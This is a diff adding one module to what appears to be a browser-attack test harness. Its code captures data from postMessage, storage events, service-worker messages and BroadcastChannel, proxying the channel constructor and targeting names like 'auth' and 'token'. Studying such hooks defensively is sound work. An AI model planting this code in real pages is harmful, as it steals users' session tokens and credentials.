@@ -1,0 +1,25 @@
+import { attack } from "../attack.js";
+
+export default attack({
+  name: "listen to postMessage, BroadcastChannel and storage events",
+  threat: "persistent theft",
+  target: "any",
+  hook(it) {
+    addEventListener("message", ({ data }) => it.steal(data), true);
+    addEventListener("storage", ({ oldValue, newValue }) => it.steal(oldValue, newValue), true);
+    navigator.serviceWorker?.addEventListener("message", ({ data }) => it.steal(data));
+    navigator.serviceWorker?.startMessages();
+    // Whatever names the app uses, and some that libraries use.
+    const listen = (name: string) => {
+      new channel(name).onmessage = ({ data }) => it.steal(data);
+    };
+    const channel = BroadcastChannel;
+    window.BroadcastChannel = new Proxy(channel, {
+      construct(target, [name]: [string]) {
+        listen(name);
+        return new target(name);
+      },
+    });
+    for (const name of ["auth", "token", "tokens", "session", "oidc", "keeper", "strongroom"]) listen(name);
+  },
+});
